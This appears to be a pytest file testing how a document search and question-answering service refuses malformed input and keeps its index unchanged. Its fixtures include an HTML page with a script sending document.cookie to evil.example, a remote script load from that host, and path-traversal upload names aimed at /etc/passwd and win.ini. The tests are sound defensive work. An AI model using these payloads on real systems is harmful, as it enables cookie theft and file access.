"""Bad input over real HTTP: each case gets a clear 4xx JSON error naming the problem, and the index
is left as it was (documents, articles, chunks and vectors counted before and after)."""

from __future__ import annotations

import random
import shutil
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import pytest

from service.app import create_app
from service.config import Settings
from tests.fakes import HashingEmbedder
from tests.service.conftest import Server

QUESTION = "儿童病房有多少张床位？"
ARTICLE = (
    "北辰县图书馆新馆开放\n本报讯 5月2日，北辰县图书馆新馆正式向读者开放，馆藏图书9.6万册，"
    "设有少儿阅览室和电子阅览室。\n"
)


@pytest.fixture(scope="module")
def live(tmp_path_factory: pytest.TempPathFactory, fixture_index: tuple[Settings, Path]) -> Iterator[Server]:
    settings = fixture_index[0].model_copy(deep=True)
    settings.index.dir = tmp_path_factory.mktemp("bad") / "index"
    settings.security.address_rate_per_minute = 0  # hundreds of requests from one address (see security/)
    shutil.copytree(fixture_index[0].index.dir, settings.index.dir)
    with Server(create_app(settings, embedder=HashingEmbedder())) as server:
        yield server


def counts(server: Server) -> dict[str, Any]:
    status = httpx.get(server.url + "/readyz").json()
    sources = [d["source"] for d in httpx.get(server.url + "/v1/documents").json()]
    return {k: status[k] for k in ("documents", "articles", "chunks", "vectors")} | {"sources": sources}


@contextmanager
def unchanged(server: Server) -> Iterator[None]:
    before = counts(server)
    yield
    assert counts(server) == before, "a refused request changed the index"


def refused(r: httpx.Response, status: int, field: str, *words: str) -> str:
    """Assert a JSON error of ``status`` naming ``field``; return its message."""
    assert r.status_code == status, r.text
    assert r.headers["content-type"].startswith("application/json")
    error = r.json()["error"]
    assert error["field"] == field, error
    for word in words:
        assert word in error["message"], error
    return str(error["message"])


def post(server: Server, path: str, **kwargs: Any) -> httpx.Response:
    return httpx.post(server.url + path, timeout=30, **kwargs)


# ---- questions ----------------------------------------------------------------------------------

ROUTES = [("/v1/ask", "question"), ("/v1/search", "query")]


def chat(question: Any, **extra: Any) -> dict[str, Any]:
    return {"messages": [{"role": "user", "content": question}], **extra}


@pytest.mark.parametrize(("path", "field"), ROUTES)
@pytest.mark.parametrize("text", ["", "   ", "\n\t "])
def test_empty_or_whitespace_questions(live: Server, path: str, field: str, text: str) -> None:
    with unchanged(live):
        refused(post(live, path, json={field: text}), 422, field, "empty")


def test_empty_chat_message(live: Server) -> None:
    with unchanged(live):
        refused(post(live, "/v1/chat/completions", json=chat("  ")), 400, "messages")


@pytest.mark.parametrize(("path", "field"), [*ROUTES, ("/v1/chat/completions", "messages")])
def test_a_100_kb_question(live: Server, path: str, field: str) -> None:
    text = "问" * (100 * 1024 // 3)  # 100 KB of UTF-8
    body = chat(text) if field == "messages" else {field: text}
    with unchanged(live):
        refused(post(live, path, json=body), 422, field, "the limit is 2000")


@pytest.mark.parametrize("path", ["/v1/ask", "/v1/search", "/v1/chat/completions", "/v1/documents"])
@pytest.mark.parametrize("raw", [b'{"question": ', b"not json at all", b'{"question": "a",}', b"\xff\xfe"])
def test_invalid_json(live: Server, path: str, raw: bytes) -> None:
    with unchanged(live):
        r = post(live, path, content=raw, headers={"content-type": "application/json"})
        refused(r, 422, "body", "JSON")


@pytest.mark.parametrize(
    ("body", "field"),
    [
        ({"question": 123}, "question"),
        ({"question": ["a"]}, "question"),
        ({"question": None}, "question"),
        ({"question": QUESTION, "top_k": "many"}, "top_k"),
        ({"question": QUESTION, "top_k": 2.5}, "top_k"),
        ({"question": QUESTION, "stream": [1]}, "stream"),
        ({"question": QUESTION, "filters": "page_a.txt"}, "filters"),
        ({"question": QUESTION, "filters": {"source": 7}}, "filters.source"),
        ({}, "question"),
        ([QUESTION], "body"),
    ],
)
def test_wrong_types(live: Server, body: Any, field: str) -> None:
    with unchanged(live):
        refused(post(live, "/v1/ask", json=body), 422, field)


def test_wrong_types_in_chat_and_documents(live: Server) -> None:
    with unchanged(live):
        refused(post(live, "/v1/chat/completions", json={"messages": "hi"}), 422, "messages")
        refused(post(live, "/v1/chat/completions", json={"messages": []}), 422, "messages")
        refused(post(live, "/v1/documents", json={"text": 5}), 422, "text")
        refused(post(live, "/v1/documents", json={"text": ARTICLE, "title": ["x"]}), 422, "title")


@pytest.mark.parametrize(
    ("path", "body", "field"),
    [
        ("/v1/ask", {"question": QUESTION, "topk": 3}, "topk"),
        ("/v1/ask", {"question": QUESTION, "filters": {"author": "x"}}, "filters.author"),
        ("/v1/search", {"query": QUESTION, "limit": 3}, "limit"),
        ("/v1/documents", {"text": ARTICLE, "path": "/etc/passwd"}, "path"),
    ],
)
def test_unknown_fields(live: Server, path: str, body: dict[str, Any], field: str) -> None:
    with unchanged(live):
        refused(post(live, path, json=body), 422, field, "Extra inputs are not permitted")


@pytest.mark.parametrize("text", ["床位\x00多少", "\x00", "床位\x07", "床位\x1b[31m", "\x7f\x00床位"])
def test_nul_and_control_characters(live: Server, text: str) -> None:
    with unchanged(live):
        refused(post(live, "/v1/ask", json={"question": text}), 422, "question", "control")
        refused(post(live, "/v1/search", json={"query": text}), 422, "query", "control")
        refused(post(live, "/v1/chat/completions", json=chat(text)), 422, "messages", "control")


@pytest.mark.parametrize("top_k", [0, -1, 10**9])
@pytest.mark.parametrize("path", ["/v1/ask", "/v1/search", "/v1/chat/completions"])
def test_top_k_out_of_bounds(live: Server, path: str, top_k: int) -> None:
    body = (
        chat(QUESTION, top_k=top_k)
        if "chat" in path
        else {"question" if path == "/v1/ask" else "query": QUESTION, "top_k": top_k}
    )
    with unchanged(live):
        refused(post(live, path, json=body), 422, "top_k")


# ---- uploads ------------------------------------------------------------------------------------


def upload(server: Server, name: str, data: bytes, content_type: str = "text/plain") -> httpx.Response:
    return post(server, "/v1/documents", files={"file": (name, data, content_type)})


def test_an_undecodable_upload(live: Server) -> None:
    rng = random.Random(6)
    noise = bytes(rng.randrange(128, 256) for _ in range(4000))  # high bytes at random: no encoding fits
    with unchanged(live):
        refused(upload(live, "page.txt", noise), 400, "file", "page.txt", "cannot decode")


def test_a_binary_file_renamed_txt(live: Server) -> None:
    rng = random.Random(7)
    png = b"\x89PNG\r\n\x1a\nIHDR" + bytes(rng.randrange(256) for _ in range(4000))
    with unchanged(live):
        refused(upload(live, "photo.txt", png, "image/png"), 400, "file", "binary")


@pytest.mark.parametrize("name", ["report.doc", "run.sh", "archive.tar.gz", "noextension"])
def test_file_types_outside_the_allow_list(live: Server, name: str) -> None:
    with unchanged(live):
        refused(upload(live, name, ARTICLE.encode()), 400, "file", "not accepted")


def test_an_empty_upload_and_an_empty_text(live: Server) -> None:
    with unchanged(live):
        refused(upload(live, "empty.txt", b""), 400, "file", "empty")
        refused(post(live, "/v1/documents", json={"text": ""}), 422, "text")
        refused(post(live, "/v1/documents", json={"text": "\x00\x01 \x02"}), 400, "text")


SCRIPTS = """<!doctype html><html><head><title>北辰县图书馆新馆开放</title>
<script>window.location='https://evil.example/?c='+document.cookie; var SCRIPTMARK1 = 1;</script>
<script src="https://evil.example/x.js"></script><style>body{background:url(SCRIPTMARK2)}</style></head>
<body onload="alert('SCRIPTMARK3')"><script>document.write('SCRIPTMARK4')</script>
<noscript>SCRIPTMARK5</noscript><p>本报讯 5月2日，北辰县图书馆新馆正式向读者开放，馆藏图书9.6万册。</p>
<img src=x onerror="SCRIPTMARK6()"><template><p>SCRIPTMARK7</p></template>
<iframe srcdoc="<script>SCRIPTMARK8</script>"></iframe><script>/* SCRIPTMARK9 */</script></body></html>"""


def test_an_html_file_full_of_scripts_is_indexed_as_its_visible_text_only(live: Server) -> None:
    """Decision: HTML is ingested as visible text; scripts, styles, handlers and templates are dropped."""
    r = upload(live, "library.html", SCRIPTS.encode(), "text/html")
    assert r.status_code == 200, r.text
    assert r.json()["documents"] == 1
    text = httpx.get(
        live.url + "/v1/documents/library.html/text", params={"start": 0, "end": 0, "context": 2000}
    ).json()
    stored = text["before"] + text["span"] + text["after"]
    assert "9.6万册" in stored
    assert "SCRIPTMARK" not in stored and "<script" not in stored and "evil.example" not in stored
    query = {"query": "SCRIPTMARK1 SCRIPTMARK4 evil.example cookie"}
    hits = post(live, "/v1/search", json=query).json()["hits"]
    assert all("SCRIPTMARK" not in h["text"] for h in hits)


def test_an_html_file_with_nothing_but_scripts_is_refused(live: Server) -> None:
    markup = b"<html><head><script>alert(1)</script></head><body><script>steal()</script></body></html>"
    with unchanged(live):
        refused(upload(live, "only-scripts.html", markup, "text/html"), 400, "file", "no visible text")


def test_a_jsonl_file_with_one_broken_line(live: Server) -> None:
    lines = [
        '{"id": "a1", "title": "北辰县图书馆新馆开放", "text": "本报讯 北辰县图书馆新馆开放。"}',
        '{"id": "a2", "title": "broken", "text": "本报讯 这一行没有结束',
        '{"id": "a3", "title": "青山湖公园改造完工", "text": "本报讯 青山湖公园改造完工，新增绿地3.2公顷。"}',
    ]
    before = counts(live)
    r = upload(live, "feed.jsonl", "\n".join(lines).encode(), "application/x-ndjson")
    assert r.status_code == 200, r.text
    result = r.json()
    assert result["documents"] == 2
    assert [(e["source"], e["line"]) for e in result["errors"]] == [("feed.jsonl", 2)]
    assert "invalid JSON" in result["errors"][0]["message"]
    after = counts(live)
    assert set(after["sources"]) - set(before["sources"]) == {"feed.jsonl#a1", "feed.jsonl#a3"}


def test_a_jsonl_file_with_only_broken_lines_is_refused_with_line_numbers(live: Server) -> None:
    with unchanged(live):
        message = refused(upload(live, "bad.jsonl", b'{"text": 1}\nnot json\n'), 400, "file")
    assert "bad.jsonl:1" in message and "bad.jsonl:2" in message


# ---- names and paths: the API takes uploads and text, never server paths --------------------------


def raw_upload(server: Server, name: bytes, data: bytes) -> httpx.Response:
    """A multipart body written by hand, so the file name arrives exactly as given (httpx escapes it)."""
    body = (
        b'--b0undary\r\nContent-Disposition: form-data; name="file"; filename="' + name + b'"\r\n'
        b"Content-Type: text/plain\r\n\r\n" + data + b"\r\n--b0undary--\r\n"
    )
    return post(
        server,
        "/v1/documents",
        content=body,
        headers={"content-type": "multipart/form-data; boundary=b0undary"},
    )


@pytest.mark.parametrize(
    "name",
    [
        b"../../etc/passwd.txt",
        b"..\\..\\windows\\win.ini.txt",
        b"/etc/passwd.txt",
        b"C:\\boot.txt",
        b"a/../../passwd.txt",
        b"pass\x00wd.txt",
        b"pass\x1bwd.txt",
        b"%2e%2e%2fpasswd.txt",
        "../../新闻.txt".encode(),
    ],
)
def test_upload_names_cannot_escape(live: Server, name: bytes) -> None:
    before = counts(live)
    r = raw_upload(live, name, ARTICLE.encode())
    assert r.status_code == 200, r.text
    added = set(counts(live)["sources"]) - set(before["sources"])
    assert len(added) == 1
    (source,) = added
    assert "/" not in source and "\\" not in source and ".." not in source
    assert source.isprintable() and source.endswith(".txt")
    assert httpx.delete(f"{live.url}/v1/documents/{quote(source)}").status_code == 200


def test_an_upload_named_like_a_server_path_without_a_text_type_is_refused(live: Server) -> None:
    with unchanged(live):
        refused(upload(live, "../../etc/passwd", b"root:x:0:0:root:/root:/bin/bash\n"), 400, "file")


@pytest.mark.parametrize(
    "source",
    [
        "../../etc/passwd",
        "/etc/passwd",
        "a/../../b.txt",
        "C:\\x.txt",
        "a\\b.txt",
        "./a.txt",
        "a//b.txt",
        "a\x00.txt",
        "",
    ],
)
def test_text_documents_with_path_like_sources_are_refused(live: Server, source: str) -> None:
    with unchanged(live):
        refused(post(live, "/v1/documents", json={"text": ARTICLE, "source": source}), 422, "source")


def test_a_nested_relative_source_name_is_fine(live: Server) -> None:
    r = post(live, "/v1/documents", json={"text": ARTICLE, "source": "2024/05/library.txt"})
    assert r.status_code == 200, r.text
    assert "2024/05/library.txt" in counts(live)["sources"]
